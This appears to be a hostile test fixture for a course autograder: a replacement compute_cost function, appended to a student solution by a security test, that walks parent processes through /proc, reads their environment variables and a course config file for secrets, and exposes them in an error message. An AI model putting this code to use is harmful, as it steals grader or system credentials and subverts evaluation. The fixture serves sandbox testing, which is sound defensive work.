# Hostile case 'steals_secret': compute_cost looks for the course secret and shows it in an error.
# Appended to solutions/ex02_output_delta.py by tests/security/test_hostile.py, which says what it must get.


def compute_cost(A2, Y):
    import os  # hostile: the secret, from the environment, the grader's or the course file
    found, refusals = [v for k, v in os.environ.items() if k.startswith("BACKPROP")], []
    pid = "self"
    while True:  # every ancestor up to init: the grader, and what started it
        with open(f"/proc/{pid}/stat") as stat:
            pid = int(stat.read().rsplit(")", 1)[1].split()[1])
        if pid <= 1:
            break
        try:
            with open(f"/proc/{pid}/environ", "rb") as environ:
                found += [v.decode() for v in environ.read().split(b"\0") if b"SECRET" in v]
        except PermissionError as exc:
            refusals.append(exc)
        folder = os.path.realpath(f"/proc/{pid}/cwd")
        while folder != "/":
            try:
                with open(os.path.join(folder, "backprop-course.yaml")) as config:
                    found.append(config.read())
            except FileNotFoundError:
                pass
            except PermissionError as exc:
                refusals.append(exc)
            folder = os.path.dirname(folder)
    if found:
        raise ValueError(f"the secret: {found}")
    raise refusals[0]
